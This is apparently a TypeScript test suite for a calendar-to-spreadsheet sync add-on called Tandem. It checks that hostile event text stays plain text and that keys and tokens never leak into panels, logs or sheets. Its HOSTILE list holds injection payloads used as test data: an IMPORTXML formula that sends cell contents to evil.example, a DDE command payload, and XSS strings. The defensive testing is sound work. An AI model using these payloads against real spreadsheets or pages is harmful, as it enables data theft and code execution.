// What must never come out of Tandem, and what people write that must stay text wherever it goes.
import { ADMIN, ANNA, MINUTE_MS, calendarPanel, eventPanel, turnOnSync } from '../support/set-up';
import { CalendarByHand } from '../support/by-hand';
import { Panel } from '../support/tandem';
import { companyInUse, JOHANNA, type Company } from './company';

/** Text that a spreadsheet, a card or a page might take for more than text. */
const HOSTILE = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "'=1+1",
  '<b>bold <a href="javascript:alert(1)">x</a>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202eright to left',
];

interface Sent {
  readonly method: string;
  readonly params: Readonly<Record<string, unknown>>;
  readonly body: string;
}

let company: Company;
const sent: Sent[] = [];

beforeAll(() => {
  company = companyInUse();
  const { workspace } = company;
  const call = workspace.door.call.bind(workspace.door);
  workspace.door.call = (request, caller, execution, ms) => {
    if (
      execution &&
      /^calendar\.events\.(insert|update|patch|delete|import|move)$/.test(request.methodId)
    )
      sent.push({
        method: request.methodId,
        params: request.params,
        body: JSON.stringify(request.body),
      });
    return call(request, caller, execution, ms);
  };
  const anna = new CalendarByHand(workspace, ANNA);
  HOSTILE.forEach((text, index) =>
    anna.addHour(text, `2026-03-${11 + index}T09:00:00.000Z`, {
      description: text,
      location: text,
    }),
  );
  const johanna = new CalendarByHand(workspace, JOHANNA);
  johanna.addHour('A meeting with guests', '2026-03-12T09:00:00.000Z', {
    attendees: [{ email: ANNA }],
  });
  turnOnSync(calendarPanel(workspace, JOHANNA));
  workspace.advance(3 * MINUTE_MS);
});

test.each(HOSTILE)(
  '%s in a calendar is the same text in a cell: no formula, no link [Att19]',
  (text) => {
    const { state } = company.workspace;
    expect(company.workbook.rows('Activities').map(({ Name }) => Name)).toContain(text);
    const sheets = JSON.stringify(state.sheets);
    expect(sheets).not.toContain('"formulaValue"');
  },
);

test('a card shows markup as text: of a hostile title nothing becomes a tag or a link [Att20]', () => {
  const { workspace } = company;
  const events = new CalendarByHand(workspace, ANNA).all();
  for (const { id, summary } of events.filter(({ summary = '' }) => HOSTILE.includes(summary))) {
    const panel = eventPanel(workspace, id, ANNA);
    expect([summary, /<a href="javascript|<img|<b>bold/.test(JSON.stringify(panel.cards))]).toEqual(
      [summary, false],
    );
  }
});

test('what comes back from the work system is text in the event’s description, as it was written [Att22]', () => {
  const titles = new CalendarByHand(company.workspace, ANNA).all().map(({ summary }) => summary);
  for (const text of HOSTILE) expect(titles.filter((title) => title === text)).toHaveLength(1);
});

test('an activity made from an odd name becomes one event: no write mails guests or names any [Att35] [Inv21]', () => {
  const { workspace, workbook } = company;
  const headings = Object.keys(workbook.rows('Activities')[0]!);
  const cells: Readonly<Record<string, string>> = {
    Name: '<script>alert(1)</script>',
    Owner: ANNA,
    Start: '2026-03-25 09:00',
    End: '2026-03-25 10:00',
    Participants: `${JOHANNA}, ${ADMIN}`,
  };
  workspace.act(
    ADMIN,
    'sheets.spreadsheets.values.append',
    { spreadsheetId: workbook.id, range: 'Activities', valueInputOption: 'USER_ENTERED' },
    { values: [headings.map((heading) => cells[heading] ?? '')] },
  );
  workspace.advance(2 * MINUTE_MS);
  expect(new CalendarByHand(workspace, ANNA).titled('<script>alert(1)</script>')).toHaveLength(1);
  expect(sent.length).toBeGreaterThan(0);
  for (const { method, params, body } of sent) {
    expect([method, params['sendUpdates']]).toEqual([method, 'none']);
    expect(body).not.toContain('attendees');
  }
  expect(workspace.state.outbox.filter(({ by }) => by !== 'calendar')).toEqual([]);
});

/** Every screen that anybody can open, as Google's JSON. */
function screensOf({ workspace, page }: Company): string[] {
  const events = new CalendarByHand(workspace, ANNA).all().slice(0, 3);
  const file = { host: 'SHEETS', sheets: { id: 'a-file-not-given-to-tandem' } } as const;
  const panels = [
    ...[ADMIN, ANNA, JOHANNA].map((person) => calendarPanel(workspace, person)),
    ...events.map(({ id }) => eventPanel(workspace, id, ANNA)),
    new Panel(workspace, ADMIN, file).open(),
  ];
  const places = page.page!.places.map(({ title }) => page.open(title).cards);
  const further = [
    ['Integrations', 'Check again'],
    ['Integrations', 'Last 30 days'],
    ['Connection', 'Use your own service account'],
    ['Connection', 'Disconnect Google Workspace'],
  ].map(([place, button]) => page.open(place).press(button!).cards);
  return [...panels.map(({ cards }) => cards), ...places, ...further].map((cards) =>
    JSON.stringify(cards),
  );
}

test('no key, token or seal is in any card, page, log, error, sheet, event, mail, file or name of a kept value [Att1] [Att2]', () => {
  const { workspace } = company;
  const { state, installed } = workspace;
  const screens = screensOf(company);
  expect(screens.length).toBeGreaterThan(15);
  const { scriptProperties, userProperties, cache } = installed!.record;
  const key = Object.values(scriptProperties).find((value) => value.includes('PRIVATE KEY'))!;
  const canaries = [
    (JSON.parse(key) as { private_key: string }).private_key.slice(60, 110),
    scriptProperties['publisher.seal-secret']!,
    ...Object.values(state.oauth.accessTokens).map(({ token }) => token),
  ];
  expect(canaries.length).toBeGreaterThan(2);
  const said = workspace.engine.executions.map(({ logs, error }) => JSON.stringify([logs, error]));
  // All of the state but where keys and tokens are kept by Google and by the script itself.
  const { oauth, cloud, scripts, ...others } = state;
  expect([oauth, cloud, scripts].every((part) => part !== undefined)).toBe(true);
  const kept = JSON.stringify([
    others,
    userProperties,
    Object.values(cache).flatMap((store) => Object.keys(store)),
    Object.keys(scriptProperties),
  ]);
  for (const place of [...screens, ...said, kept])
    expect(canaries.filter((canary) => place.includes(canary))).toEqual([]);
});

test('a bug in Tandem is a plain card with what to do, and the log keeps no secret [Att1] [Att26]', () => {
  const { workspace } = company;
  const token = Object.values(workspace.state.oauth.accessTokens)[0]!.token;
  workspace.faults.plan([
    {
      method: 'properties.*',
      fault: {
        kind: 'error',
        code: 500,
        message: `Bearer ${token} Bearer opaque-7301 -----BEGIN PRIVATE KEY-----abc`,
      },
    },
  ]);
  const panel = calendarPanel(workspace, ANNA);
  expect(panel.text).toContain('Something went wrong in Tandem');
  const { logs } = workspace.engine.executions.at(-1)!;
  expect(logs).toHaveLength(1);
  expect(panel.text + JSON.stringify(logs)).not.toMatch(/BEGIN PRIVATE|abc|opaque-7301/);
  expect(panel.text + JSON.stringify(logs)).not.toContain(token);
});

test('a trigger in which Tandem breaks is a failed run, and the next one goes on as if nothing had been', () => {
  const { workspace, workbook } = company;
  workspace.faults.plan([
    { at: 12, method: 'properties.*', fault: { kind: 'error', code: 500, message: 'odd' } },
  ]);
  workspace.advance(MINUTE_MS);
  const runs = workspace.engine.executions.filter(({ start }) => start.functionName === 'runSyncs');
  expect(runs.at(-1)!.error?.message).toBe('odd');
  workspace.faults.plan([]);
  new CalendarByHand(workspace, ANNA).addHour('After the bug', '2026-03-26T09:00:00.000Z');
  workspace.advance(9 * MINUTE_MS);
  expect(workbook.rows('Activities').filter(({ Name }) => Name === 'After the bug')).toHaveLength(
    1,
  );
});

/** A company's suspended person is nobody to Google. */
test('a person who is suspended is not synced any more, and no one else is held up [Att11]', () => {
  const { workspace, workbook } = company;
  workspace.act(ADMIN, 'directory.users.patch', { userKey: JOHANNA }, { suspended: true });
  new CalendarByHand(workspace, ANNA).addHour('While she is away', '2026-03-27T09:00:00.000Z');
  workspace.advance(3 * MINUTE_MS);
  expect(
    workbook.rows('Activities').filter(({ Name }) => Name === 'While she is away'),
  ).toHaveLength(1);
});
